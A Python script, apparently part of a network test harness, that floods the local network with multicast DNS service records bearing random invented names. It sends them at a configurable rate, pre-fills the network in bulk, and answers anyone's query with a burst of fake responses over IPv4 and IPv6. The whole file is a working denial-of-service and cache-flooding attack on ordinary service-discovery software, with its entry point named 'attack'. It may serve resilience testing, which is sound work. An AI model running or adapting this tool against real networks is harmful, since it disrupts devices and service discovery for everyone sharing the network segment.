"""Floods the network with invented names.

    names.py --rate N [--together K] [--burst N] [--fill N]

`--rate`: names a second. `--together`: names in one packet (at most 8: 32 records). `--burst`: as many names at once, right
after every query of anybody. `--fill`: so many names first, as fast as one process can.
"""

import argparse
import os
import random
import re
import time

import wire


class Names:
    def __init__(self, together):
        self.together, self.sent, self.refused = together, 0, 0
        self.v4, self.v6 = wire.group_socket(), wire.group_socket6()
        self.turn = 0
        # One packet, with places for what is invented each time: a packet made anew would cost more than sending it.
        blank = ["%032x" % number for number in range(1, 2 * together + 1)]
        records = b"".join(wire.instance(name, host, 40_000 + random.randrange(20_000), [f"10.77.0.{random.randrange(30, 250)}"])[12:]
                           for name, host in zip(blank[::2], blank[1::2]))
        packet = wire.struct.pack("!6H", 0, 0x8400, 0, 4 * together, 0, 0) + records
        pieces = re.split(b"(" + b"|".join(value.encode() for value in blank) + b")", packet)
        self.pieces, places = pieces, [value.encode() for value in blank]
        self.filled = [(index, places.index(piece)) for index, piece in enumerate(pieces) if piece in places]
        self.fresh, self.offset = b"", 0

    def send(self):
        if len(self.fresh) - self.offset < 64 * self.together:
            self.fresh, self.offset = os.urandom(1 << 18).hex().encode(), 0
        for index, number in self.filled:
            begun = self.offset + 32 * number
            self.pieces[index] = self.fresh[begun:begun + 32]
        self.offset += 64 * self.together
        packet = b"".join(self.pieces)
        self.turn ^= 1
        try:
            if self.turn:
                self.v4.sendto(packet, (wire.GROUP, wire.PORT))
            else:
                self.v6.sendto(packet, (wire.GROUP6, wire.PORT))
            self.sent += self.together
        except OSError:
            self.refused += 1


def attack(arguments):
    def perform(figures):
        names = Names(arguments.together)
        begun, before, bursts = time.time(), 0, 0
        try:
            for _ in range(arguments.fill // arguments.together):
                names.send()
            wire.ready()
            begun, before = time.time(), names.sent
            pace = wire.Pace(max(arguments.rate / arguments.together, 1))
            while True:
                if arguments.rate:
                    names.send()
                    pace.wait()
                if arguments.burst:
                    bursts += answer(names, arguments.burst, 0.001 if arguments.rate else 0.5)
        finally:
            figures.update(names=names.sent, refused=names.refused, bursts=bursts,
                           perSecond=round((names.sent - before) / max(time.time() - begun, 0.001)))
    return perform


def answer(names, count, seconds):
    """Sends a burst after a query that is heard within so many seconds."""
    for payload, _ in wire.listen(names.v4, time.time() + seconds):
        if payload and wire.is_query(payload):
            for _ in range(count // names.together):
                names.send()
            return 1
    return 0


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rate", type=int, default=0)
    parser.add_argument("--together", type=int, default=1)
    parser.add_argument("--burst", type=int, default=0)
    parser.add_argument("--fill", type=int, default=0)
    wire.perform(attack(parser.parse_args()))
